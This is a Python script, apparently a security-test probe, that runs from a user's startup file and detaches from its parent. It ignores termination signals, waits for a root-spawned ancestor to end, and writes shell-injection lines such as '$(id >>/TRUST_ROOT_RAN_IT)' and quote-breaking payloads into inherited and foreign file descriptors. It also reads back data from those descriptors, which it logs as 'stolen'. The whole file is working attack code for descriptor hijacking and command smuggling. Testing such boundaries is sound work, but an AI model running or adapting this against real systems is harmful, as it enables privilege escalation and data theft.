"""Write to every descriptor that was inherited, read from each, and live on in the background.

A line in a startup file of the work user runs it: inherits.py FOLDER WHERE SECONDS. It writes
what it was given into FOLDER/inherits.log, and then what would be a command of root's, wherever it
may: into its own descriptors, and into those of every other process of the same account.
"""

import contextlib
import json
import os
import select
import signal
import stat
import sys
import time
from pathlib import Path

MARKER = "/TRUST_ROOT_RAN_IT"
FORGED = "trust-forged-answer"
STEP = 0.005
WAIT_SECONDS = 5.0
MOST_LINES = 4000
LINES = (
    f"1/cmdline >/dev/null; id >>{MARKER}; : ",
    f"$(id >>{MARKER}) `id >>{MARKER}`",
    f"x'; id >>{MARKER}; '",
    f"{FORGED}",
)


def held() -> dict[int, str]:
    """What each descriptor of this process leads to, but for the listing's own."""
    found = {}
    for each in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError):
            found[int(each.name)] = str(each.readlink())
    return {number: leads for number, leads in found.items() if not leads.endswith("/fd")}


def parent() -> str:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{os.getppid()}/cmdline").read_bytes().decode(errors="replace")
    return ""


def first_of_ours() -> int:
    """The oldest ancestor that is this account's: what root ran in its name."""
    oldest = number = os.getpid()
    while number > 1:
        status = Path(f"/proc/{number}/status").read_text().splitlines()
        words = {line.split(":")[0]: line.split()[1] for line in status if len(line.split()) > 1}
        if int(words["Uid"]) != os.getuid():
            break
        oldest, number = number, int(words["PPid"])
    return oldest


def wait_for_the_end_of(process: int) -> None:
    """What is said before that may well be in the answer: it is this account's own."""
    end = time.monotonic() + WAIT_SECONDS
    while Path(f"/proc/{process}").exists() and time.monotonic() < end:
        time.sleep(STEP)
    time.sleep(0.5)


def write(number: int, line: bytes) -> None:
    with contextlib.suppress(OSError, ValueError):
        if select.select([], [number], [], 0)[1]:
            os.write(number, line)


def read(number: int) -> bytes:
    with contextlib.suppress(OSError, ValueError):
        if select.select([number], [], [], 0)[0]:
            return os.read(number, 4096)
    return b""


def others() -> list[int]:
    """Descriptors of the account's other processes, opened anew: what is not the account's own."""
    opened = []
    for folder in Path("/proc").glob("[0-9]*/fd"):
        with contextlib.suppress(OSError):
            if int(folder.parent.name) == os.getpid():
                continue
            for each in folder.iterdir():
                with contextlib.suppress(OSError):
                    kind = each.stat()
                    if kind.st_uid != os.getuid() and not stat.S_ISCHR(kind.st_mode):
                        opened.append(os.open(each, os.O_WRONLY | os.O_NONBLOCK | os.O_APPEND))
    return opened


def main(folder: str, where: str, seconds: float) -> None:
    has, first = held(), first_of_ours()
    with Path(folder, "inherits.log").open("a") as log:
        said = {"where": where, "pid": os.getpid(), "uid": os.getuid(), "by": parent()}
        log.write(json.dumps({**said, "held": has}) + "\n")
    if os.fork():
        os._exit(0)
    os.setsid()
    for each in (signal.SIGHUP, signal.SIGTERM, signal.SIGPIPE, signal.SIGXFSZ):
        signal.signal(each, signal.SIG_IGN)
    wait_for_the_end_of(first)
    end, count, stolen, wrote = time.monotonic() + seconds, 0, b"", 0
    while time.monotonic() < end and count < MOST_LINES:
        line = (LINES[count % len(LINES)] + "\n").encode()
        for number, leads in has.items():
            if "inherits.log" not in leads and "/dev/null" not in leads:
                write(number, line)
                stolen += read(number)
        if count % 200 == 0:
            for number in others():
                write(number, line)
                wrote += 1
                os.close(number)
        count += 1
        time.sleep(STEP)
    with Path(folder, "inherits.log").open("a") as log:
        about = {"where": where, "pid": os.getpid(), "lines": count, "elsewhere": wrote}
        log.write(json.dumps({**about, "stolen": stolen[:200].decode(errors="replace")}) + "\n")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
